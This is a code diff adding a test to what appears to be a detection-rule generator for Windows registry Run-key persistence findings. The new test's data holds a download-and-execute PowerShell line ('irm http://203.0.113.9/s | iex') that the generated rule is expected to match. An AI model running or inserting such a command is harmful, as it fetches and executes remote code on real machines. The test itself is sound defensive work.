@@ -220,3 +220,15 @@ def test_title_is_short_and_plain():
 
 def test_letters_that_fold_like_others_or_grow_shift_nothing():
     assert pattern_of("\u212aA S-1-5-21-1-2-3-4 \u0130B 10.2.3.4 C") == Pattern(("\u212aA ", " \u0130B ", " C"))
+
+
+def test_a_finding_without_its_event_is_told_by_its_data_not_by_a_payload_s_name():
+    fields = dict.fromkeys(("EventCode", "TargetObject", "Details", "Image"), "")
+    data = "powershell -c irm http://203.0.113.9/s | iex"
+    finding = only(
+        sighting(**fields, rk_key=f"HKLM{RUN}", rk_action="set", rk_data=data, rk_payload="http://203.0.113.9/s")
+    )
+    assert yaml.safe_load(rule_texts(finding)[0])["detection"]["selection"] == {
+        "TargetObject": f"HKLM{RUN}\\Updater",
+        "Details": data,
+    }
